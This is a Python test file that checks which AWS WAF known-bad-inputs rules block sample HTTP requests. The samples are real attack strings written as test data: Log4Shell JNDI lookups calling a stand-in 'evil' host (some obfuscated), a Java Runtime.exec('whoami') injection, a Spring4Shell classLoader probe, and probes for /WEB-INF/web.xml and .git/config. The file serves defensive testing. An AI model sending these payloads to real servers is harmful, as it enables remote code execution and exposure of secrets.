"""Known bad inputs."""

import pytest

from gatewright.model.request import Request
from tests.aws.waf.managed.blocked import blocked_by, browser


@pytest.mark.parametrize(
    ("asked", "rule"),
    [
        (browser(X_Cmd="(java.lang.Runtime).getRuntime().exec('whoami')"), "JavaDeserializationRCE_HEADER"),
        (browser(body=b"class.module.classLoader.resources"), "JavaDeserializationRCE_BODY"),
        (browser(query="q=java.lang.Runtime"), "JavaDeserializationRCE_QUERYSTRING"),
        (browser(Host="localhost:8080"), "Host_localhost_HEADER"),
        (browser("/WEB-INF/web.xml"), "ExploitablePaths_URIPATH"),
        (browser("/prod/.git/config"), "ExploitablePaths_URIPATH"),
        (browser(X_Api="${jndi:ldap://evil/a}"), "Log4JRCE_HEADER"),
        (browser(query="q=%24%7Bjndi%3Aldap%3A%2F%2Fevil%7D"), "Log4JRCE_QUERYSTRING"),
        (browser(query="q=${${lower:j}ndi:rmi://evil}"), "Log4JRCE_QUERYSTRING"),
        (browser(body=b"${${::-j}${::-n}di:dns://evil}"), "Log4JRCE_BODY"),
        (browser(query="q=${name}", body=b'{"price": "$5"}'), None),
        (browser(), None),
    ],
)
def test_each_rule_finds_what_it_is_about(asked: Request, rule: str | None) -> None:
    """By AWS's names; a template's variable is none."""
    assert blocked_by("AWSManagedRulesKnownBadInputsRuleSet", asked) == rule
